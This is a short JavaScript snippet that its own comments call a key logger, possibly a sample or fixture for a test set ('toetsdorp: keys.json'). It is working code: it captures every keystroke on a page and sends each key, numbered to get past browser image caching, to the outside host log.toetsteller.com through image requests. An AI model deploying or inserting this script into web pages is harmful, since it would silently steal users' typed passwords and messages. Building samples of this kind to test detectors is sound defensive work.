// A key logger that sends every key on its own, as an image request (toetsdorp: keys.json).
// Numbered, as such loggers do: Chromium sends an image URL it already asked for only once.
(function () {
  var i = 0;
  document.addEventListener("keydown", function (e) {
    i += 1;
    new Image().src = "https://log.toetsteller.com/k?s=ts1&i=" + i + "&c=" + encodeURIComponent(e.key);
  }, true);
})();
